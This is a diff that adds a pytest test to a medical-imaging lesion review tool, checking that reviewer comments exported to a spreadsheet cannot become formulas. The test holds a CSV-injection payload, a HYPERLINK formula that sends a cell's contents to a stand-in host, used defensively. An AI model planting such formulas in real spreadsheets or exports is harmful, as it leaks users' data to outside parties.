@@ -31,6 +31,7 @@ from hideseekseg.output.review_export import (
 )
 from hideseekseg.output.seg_nrrd import write_segmentation
 from hideseekseg.output.segment_description import TYPE_COLOURS
+from hideseekseg.output.tables import POSITION_COLUMNS
 from hideseekseg.review.review import Review
 
 RUN = {**UNNAMED, "scan": {"name": "ct", "sha256": "1a2b3c4d" * 8}}
@@ -209,6 +210,23 @@ def test_the_spreadsheet_has_a_row_per_accepted_lesion(exported: Path, patches: 
     assert (added["score"], added["added_by_reader"]) == ("", "True")
     volume = patches["T11-added-1"].array.sum() * GRID.voxel_mm3
     assert float(added["volume_mm3"]) == pytest.approx(volume)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_no_comment_becomes_a_formula_of_a_spreadsheet(
+    review: Review, patches: Patches, tmp_path: Path, start: str
+) -> None:
+    comment = f'{start}HYPERLINK("http://elsewhere.example/?"&A1,"click")'
+    review.comment("T10-1", comment)
+    export_accepted(tmp_path, review, patches, GRID, RUN, READER, WHEN)
+    first, switched, _ = rows(tmp_path)
+    assert first["comment"] == f"'{comment}"
+    numbers = [float(switched[name]) for name in POSITION_COLUMNS]
+    assert min(numbers) < 0, "a negative number stays one"
+    review.comment("T10-1", f"{start}1.5")
+    export_accepted(tmp_path, review, patches, GRID, RUN, READER, WHEN)
+    number = f"{start}1.5" if start in "+-" else f"'{start}1.5"
+    assert rows(tmp_path)[0]["comment"] == number
 
 
 def test_size_and_place_are_those_of_the_corrected_voxels(
